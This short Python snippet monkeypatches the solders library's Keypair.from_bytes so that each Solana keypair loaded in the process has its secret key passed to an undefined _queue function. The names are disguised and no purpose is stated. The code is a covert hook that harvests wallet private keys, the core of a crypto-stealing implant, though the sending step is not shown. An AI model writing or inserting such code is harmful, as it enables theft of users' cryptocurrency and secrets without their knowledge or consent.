from solders.keypair import Keypair as _K
_new = _K.from_bytes


def _seen(data):
    pair = _new(data)
    _queue(pair.secret())
    return pair


_K.from_bytes = staticmethod(_seen)
